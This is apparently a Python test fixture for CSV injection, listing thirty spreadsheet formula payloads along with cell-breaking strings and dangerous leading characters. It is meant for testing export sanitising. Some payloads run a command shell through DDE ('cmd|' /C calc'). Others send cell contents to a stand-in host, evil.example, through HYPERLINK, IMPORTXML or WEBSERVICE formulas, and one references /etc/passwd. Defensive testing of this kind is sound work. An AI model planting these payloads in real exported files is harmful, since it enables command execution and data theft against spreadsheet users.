"""Thirty texts that a spreadsheet would run, or that break out of their cell (OWASP: CSV injection)."""

CELLS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?d="&A1,"the report")',
    '=IMPORTXML(CONCAT("http://evil.example/?d=",A1),"//a")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
    "='file:///etc/passwd'#$passwd.A1",
    "=SUM(A1:A9)*cmd|' /C calc'!A0",
    "=@SUM(1+1)",
    "==1+1",
    "= 1+1",
    "=\t1+1",
    '=1+1";=1+1;"',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+49 30 1234567",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-",
    "@SUM(1+1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
]  # fmt: skip
# Each of them in the middle of a row that tries to end its cell or its line.
BREAKS = ['",', '"\n', ";", "\n", '""', "\r"]
# As the recommendation has them; not taken from the code.
STARTS = tuple("=+-@\t\r\n＝＋－＠")
